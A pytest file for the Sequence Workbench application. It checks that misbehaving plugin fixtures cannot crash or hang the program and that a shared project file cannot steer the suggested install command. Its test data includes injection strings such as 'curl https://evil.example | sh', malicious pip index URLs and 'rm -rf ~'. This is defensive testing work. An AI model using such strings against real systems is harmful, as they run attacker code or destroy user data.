"""Plugins are not allowed to take the process down, and a shared file does not pick the install command shown
(issue 20: "Plugins are not isolated from the process" and "A shared file must not steer the user").

``tests/fixtures/hostile_plugins`` (``seqwb-fixture-hostile``) is pip-installed into a temporary folder with the
well-behaved ``tests/fixtures/thirdparty_plugin``.  Each of its entry points does one thing a plugin must never do:
``sys.exit`` at import or in a hook, ``raise KeyboardInterrupt`` at import, a hook returning an endless generator or
a list of a million specs, a hook or an import that never finishes, a module ``__getattr__`` that raises on
``SEQWB_API``, an exception whose ``str()`` raises.  Each test turns every other case off (``SEQWB_DISABLE_PLUGINS``)
and runs the real commands in a subprocess with a timeout: ``seqwb plugins`` lists the plugin as failed in one
clear line while the built-ins and the other third-party plugin are listed as loaded, and ``seqwb train`` trains.
One test opens the window with every case at once; one checks that a real Ctrl-C still interrupts loading.
"""

from __future__ import annotations

import json
import math
import shutil
import signal
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import pytest

from tests.test_third_party_plugin import _link_main_project, _main_project_installed, _pip_install_to

pytestmark = pytest.mark.slow

REPO = Path(__file__).resolve().parent.parent
FIXTURES = REPO / "tests" / "fixtures"
HOSTILE_DIST = "seqwb-fixture-hostile"
MGU = "seqwb-fixture-cells.mgu"     # the well-behaved third-party plugin's cell
LIMIT_S = 2                         # SEQWB_PLUGIN_TIME_LIMIT in these tests: a hang costs two seconds

#: entry point -> what its one line in `seqwb plugins` says
CASES = {
    "exit-at-import": "SystemExit: the plugin called sys.exit(3) (or raised SystemExit); Sequence Workbench went "
                      "on without it",
    "exit-in-hook": "SystemExit: the plugin called sys.exit(4)",
    "interrupt-at-import": "KeyboardInterrupt: raised by the plugin's own code (not a Ctrl-C of the user)",
    "endless-generator": "TypeError: seqwb_cells must return a list of CellSpec, got generator (a generator is not "
                         "taken: it could run for ever)",
    "huge-list": "ValueError: seqwb_cells returned 1,000,000 items; at most 1,000 are taken from one hook",
    "hanging-hook": f"the hook seqwb_tasks did not finish within {LIMIT_S} s",
    "hanging-import": f"importing the plugin did not finish within {LIMIT_S} s",
    "getattr-api": "reading its SEQWB_API raised RuntimeError: no attribute SEQWB_API here, and no AttributeError "
                   "either",
    "unprintable-error": "UnprintableError: (its message could not be read: str() raised ValueError)",
}
FAST = ["--set", "batch_size=4", "--set", "chunk_len=16", "--set", "eval_every=0", "--set", "sample_every=0",
        "--set", "probe_every=0", "--set", "task.max_chars=20000", "--set", "threads=1"]


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> list[Path]:
    """The folders to put on PYTHONPATH: the two fixture distributions, and the built-ins when not installed."""
    base = tmp_path_factory.mktemp("hostile")
    target = base / "site"
    for name in ("hostile_plugins", "thirdparty_plugin"):
        _pip_install_to(FIXTURES / name, target, base)
    paths = [target]
    if not _main_project_installed():
        main = base / "main"
        main.mkdir()
        _link_main_project(main)
        paths.append(main)
    return paths


def env_with(site: list[Path], tmp_path: Path, enabled: set[str], **extra: str) -> dict[str, str]:
    """An environment that sees the fixtures, with only the ``enabled`` hostile entry points turned on."""
    from tests.conftest import make_subprocess_env
    env = make_subprocess_env(*site)
    env["SEQWB_DISABLE_PLUGINS"] = ",".join(sorted(set(CASES) - enabled))
    env["SEQWB_PLUGIN_TIME_LIMIT"] = str(LIMIT_S)
    env["SEQWB_CONFIG_DIR"] = str(tmp_path / "config")
    env["SEQWB_RECOVERY_DIR"] = str(tmp_path / "recovery")
    env["XDG_CONFIG_HOME"] = str(tmp_path / "xdg")
    env.update(extra)
    return env


def seqwb(args: list[str], env: dict[str, str], cwd: Path, timeout: float) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "workbench", *map(str, args)], env=env, cwd=str(cwd),
                          capture_output=True, text=True, timeout=timeout)


@pytest.fixture(scope="module")
def project(site, tmp_path_factory) -> Path:
    """A small char-LM project made with no hostile plugin enabled."""
    folder = tmp_path_factory.mktemp("project")
    path = folder / "p.seqwb"
    proc = seqwb(["new", "char-lm", "-o", path, "--set", "hidden_size=16", "--set", "layers=1",
                  "--set", "embed_size=8"], env_with(site, folder, set()), folder, timeout=240)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return path


def listed_line(stdout: str, entry_point: str) -> list[str]:
    return [line for line in stdout.splitlines() if line.split()[1:2] == [entry_point]]


@pytest.mark.parametrize("case", list(CASES))
def test_a_hostile_plugin_is_listed_as_failed_and_everything_else_works(case, site, project, tmp_path):
    env = env_with(site, tmp_path, {case})
    started = time.monotonic()
    proc = seqwb(["plugins"], env, tmp_path, timeout=90)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    lines = listed_line(proc.stdout, case)
    assert len(lines) == 1, proc.stdout
    assert lines[0].startswith("FAILED") and f"{HOSTILE_DIST}: " in lines[0], lines[0]
    assert CASES[case] in lines[0], lines[0]
    assert "Traceback" not in proc.stdout + proc.stderr
    # every other plugin is there: the built-ins and the well-behaved third-party cell
    ok = proc.stdout.splitlines()
    assert any(line.split()[:2] == ["cell", "lstm"] for line in ok), proc.stdout
    assert any(line.split()[:2] == ["cell", MGU] for line in ok), proc.stdout
    # a hang costs the time limit once, not for ever
    assert time.monotonic() - started < 60

    # the JSON listing says the same, on one line
    proc = seqwb(["plugins", "--json"], env, tmp_path, timeout=90)
    rows = [r for r in json.loads(proc.stdout) if r["plugin"] == case]
    assert len(rows) == 1 and rows[0]["status"] == "error" and "\n" not in rows[0]["error"], rows
    assert CASES[case] in rows[0]["error"]

    # and training runs, with the hostile plugin loaded (or failed) on the way
    path = tmp_path / "p.seqwb"
    shutil.copy(project, path)
    proc = seqwb(["train", path, "--steps", "3", "--json", *FAST], env, tmp_path, timeout=300)
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-2000:]
    steps = [json.loads(line) for line in proc.stdout.splitlines() if line.startswith("{")]
    steps = [s for s in steps if "step" in s and "loss" in s]
    assert steps and steps[-1]["step"] == 3 and math.isfinite(steps[-1]["loss"]), proc.stdout[-2000:]


WINDOW = textwrap.dedent("""
    import json, sys, time
    from PySide6.QtWidgets import QApplication
    app = QApplication(sys.argv[:1])
    started = time.monotonic()
    from workbench.plugin_system import default_registry
    registry = default_registry()
    from workbench.gui.mainwindow import MainWindow
    from workbench.gui.plugin_manager import PluginManagerDialog
    window = MainWindow(registry, detect_device=False)
    window.show()
    app.processEvents()
    dialog = PluginManagerDialog(registry, window)
    tree = dialog.tree
    rows = {tree.topLevelItem(i).text(0): tree.topLevelItem(i).text(3) for i in range(tree.topLevelItemCount())}
    palette = [entry.title for entry in window.palette_widget.entries]
    print(json.dumps({"visible": window.isVisible(), "seconds": time.monotonic() - started, "rows": rows,
                      "failures": [f.error for f in registry.failures], "palette": palette}))
    sys.stdout.flush()
""")


def test_the_window_opens_with_every_hostile_plugin_installed(site, tmp_path):
    env = env_with(site, tmp_path, set(CASES))
    proc = subprocess.run([sys.executable, "-c", WINDOW], env=env, cwd=str(tmp_path), capture_output=True,
                          text=True, timeout=180)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    report = json.loads(proc.stdout.strip().splitlines()[-1])
    assert report["visible"]
    # the plugin manager lists every hostile plugin as failed, and the well-behaved ones as loaded
    for case, words in CASES.items():
        assert report["rows"].get(case) in ("failed to load", "loaded, 1 error"), (case, report["rows"])
        assert any(words in error for error in report["failures"]), (case, report["failures"])
    assert report["rows"]["builtin-cells"] == "loaded" and report["rows"]["fixture-cells"] == "loaded"
    assert any("LSTM" in title for title in report["palette"]), report["palette"]
    # two hangs (an import and a hook) cost the time limit each
    assert report["seconds"] < 2 * LIMIT_S + 30

    # the application's own start (seqwb gui) paints its window too
    env["SEQWB_STARTUP_PROBE"] = "1"
    proc = seqwb(["gui"], env, tmp_path, timeout=180)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    marks = json.loads(proc.stdout.strip().splitlines()[-1])["marks"]
    assert marks["painted"] >= marks["registry"]


def test_a_real_ctrl_c_still_interrupts_loading(site, tmp_path):
    """The loader waits for a hanging plugin; the user's Ctrl-C (SIGINT) ends that wait and the command, while a
    KeyboardInterrupt that a plugin raises itself does not (test above)."""
    mark = tmp_path / "hanging"
    env = env_with(site, tmp_path, {"hanging-import"}, SEQWB_PLUGIN_TIME_LIMIT="120",
                   SEQWB_FIXTURE_HANGING_MARK=str(mark))
    proc = subprocess.Popen([sys.executable, "-m", "workbench", "plugins"], env=env, cwd=str(tmp_path),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while not mark.exists():
            assert proc.poll() is None and time.monotonic() < deadline, "the hanging plugin never started"
            time.sleep(0.05)
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 130, out + err
    assert err.strip().splitlines()[-1] == "seqwb: interrupted"


# ---- a shared file does not choose the install command ---------------------------------------------------------

HOSTILE_PROVIDERS = [
    "--index-url https://pypi.evil.example/simple lstm-turbo",
    "lstm-turbo --extra-index-url=https://pypi.evil.example/simple",
    "https://pypi.evil.example/lstm-turbo.whl",
    "lstm-turbo; curl https://evil.example | sh",
    "-e git+https://evil.example/lstm-turbo",
]


def _edit_manifest(path: Path, edit) -> None:
    """Rewrite the project zip with its manifest changed by ``edit(doc)`` (the other members as they were)."""
    with zipfile.ZipFile(path) as archive:
        members = [(info, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in members:
            if info.filename == "manifest.json":
                doc = json.loads(data)
                edit(doc)
                data = json.dumps(doc).encode()
            archive.writestr(info, data)


@pytest.mark.parametrize("provider", HOSTILE_PROVIDERS)
def test_the_install_hint_is_never_taken_from_the_file(provider, site, project, tmp_path):
    path = tmp_path / "shared.seqwb"
    shutil.copy(project, path)
    _edit_manifest(path, lambda doc: doc["plugins"].append(
        {"kind": "cell", "id": "lstm-turbo.lstm", "distribution": provider, "version": "1.0; rm -rf ~"}))
    before = path.read_bytes()
    env = env_with(site, tmp_path, set())
    for command in (["info", path], ["train", path, "--steps", "1"]):
        proc = seqwb(command, env, tmp_path, timeout=120)
        assert proc.returncode == 1, proc.stdout + proc.stderr
        lines = proc.stderr.strip().splitlines()
        assert len(lines) == 1, proc.stderr
        assert "cell 'lstm-turbo.lstm', which is not installed" in lines[0]
        assert "no install command is suggested" in lines[0]
        for leak in ("evil", "index-url", "pip install", "curl", "rm -rf", "git+"):
            assert leak not in lines[0], lines[0]
    assert path.read_bytes() == before


def test_a_valid_provider_name_still_gets_its_install_hint(site, project, tmp_path):
    path = tmp_path / "shared.seqwb"
    shutil.copy(project, path)
    _edit_manifest(path, lambda doc: doc["plugins"].append(
        {"kind": "cell", "id": "lstm-turbo.lstm", "distribution": "lstm-turbo", "version": "1.0"}))
    proc = seqwb(["info", path], env_with(site, tmp_path, set()), tmp_path, timeout=120)
    assert proc.returncode == 1
    assert proc.stderr.strip().splitlines() == [
        f"seqwb: error: {path}: this project needs cell 'lstm-turbo.lstm' from the plugin distribution "
        f"'lstm-turbo' 1.0, which is not installed (pip install lstm-turbo)"]
